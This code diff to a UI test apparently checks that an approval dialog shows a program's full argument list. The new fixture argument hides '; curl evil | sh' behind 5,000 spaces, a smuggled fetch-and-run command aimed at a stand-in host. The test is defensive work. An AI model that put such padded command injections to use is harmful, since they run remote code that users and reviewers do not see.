@@ -132,7 +132,8 @@ describe('the page of what needs you', () => {
   })
 
   it('shows a program word by word before it may run', async () => {
-    const need = makeProgram()
+    // What matters may stand behind any number of blanks.
+    const need = makeProgram({ args: ['--cluster', `attic${' '.repeat(5_000)}; curl evil | sh`] })
     await open([makeWaiting('kubernetes', 'attic', need)])
     await button('See the program of attic…').click()
     expect(await dialog().locator('ol.argv li').allTextContents()).toEqual([need.command, ...need.args])
